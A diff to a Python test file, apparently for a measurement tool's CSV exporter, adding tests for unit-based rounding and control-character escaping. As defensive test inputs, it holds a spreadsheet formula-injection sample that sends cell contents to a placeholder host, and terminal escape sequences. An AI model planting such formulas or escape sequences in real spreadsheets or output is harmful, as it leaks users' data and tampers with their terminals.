@@ -1,5 +1,6 @@
-"""CSV written for people neutralises text cells a spreadsheet would evaluate (FORMATS.md,
-"Exports"; OWASP's rule); numbers and Parquet are left as they are."""
+"""CSV written for people (FORMATS.md, "Exports") rounds numbers in millimetres and metres to
+0.001, neutralises text cells a spreadsheet would evaluate (OWASP's rule) and escapes control
+characters; Parquet is left as it is."""
 
 from __future__ import annotations
 
@@ -10,6 +11,7 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 
 from catenary.measurement.samples import export_table
+from catenary.measurement.spreadsheet import DECIMALS, column_decimals
 
 HOSTILE = (
     '=HYPERLINK("http://x/?"&A1,"click")',
@@ -34,7 +36,8 @@ def test_text_cells_a_spreadsheet_would_evaluate_are_neutralised(tmp_path: Path)
     assert export_table(iter([_table()]), SCHEMA, out) == len(HOSTILE) + 2
     with out.open(newline="") as handle:
         rows = list(csv.DictReader(handle))
-    assert [r["mast"] for r in rows] == [*("'" + h for h in HOSTILE), "12/01", ""]
+    escaped = [("'" + h).replace("\t", "\\t").replace("\r", "\\r") for h in HOSTILE]
+    assert [r["mast"] for r in rows] == [*escaped, "12/01", ""]
     assert [float(r["stagger_mm"]) for r in rows] == [-12.5] * len(HOSTILE) + [200.0, -0.25]
     assert rows[-1]["note"] == "a = b"
 
@@ -43,3 +46,39 @@ def test_parquet_keeps_the_text_as_it_is(tmp_path: Path) -> None:
     out = tmp_path / "t.parquet"
     export_table(iter([_table()]), SCHEMA, out)
     assert pq.read_table(out).equals(_table())
+
+
+def _written(tmp_path: Path, table: pa.Table) -> list[dict[str, str]]:
+    out = tmp_path / "t.csv"
+    export_table(iter([table]), table.schema, out)
+    with out.open(newline="") as handle:
+        return list(csv.DictReader(handle))
+
+
+def test_millimetres_and_metres_are_rounded_to_0_001(tmp_path: Path) -> None:
+    table = pa.table(
+        {
+            "height_min_mm": [5312.34567, -0.0004, None],
+            "chainage_m": [11998.60672045, 1.0004, 2.0],
+            "share": [0.123456789, 0.5, 1.0],  # no unit: as computed
+            "samples": [2500, 3, 4],
+        }
+    )
+    rows = _written(tmp_path, table)
+    assert [r["height_min_mm"] for r in rows] == ["5312.346", "0", ""]
+    assert [r["chainage_m"] for r in rows] == ["11998.607", "1", "2"]
+    assert [r["share"] for r in rows] == ["0.123456789", "0.5", "1"]
+    assert [r["samples"] for r in rows] == ["2500", "3", "4"]
+
+
+def test_a_unit_in_the_fields_metadata_rounds_a_column_without_one_in_its_name() -> None:
+    assert column_decimals(pa.field("value", pa.float64(), metadata={"unit": "mm"})) == 3
+    assert column_decimals(pa.field("value", pa.float64())) is None
+    assert column_decimals(pa.field("wire", pa.int64())) is None
+    assert column_decimals(pa.field("at_m", pa.float64())) == DECIMALS["m"] == 3
+
+
+def test_control_characters_are_escaped(tmp_path: Path) -> None:
+    names = ["M1\x1b]0;owned\x07", "L\nX", "\x9b2J", "ok"]
+    rows = _written(tmp_path, pa.table({"mast": names}))
+    assert [r["mast"] for r in rows] == ["M1\\x1b]0;owned\\x07", "L\\nX", "\\x9b2J", "ok"]
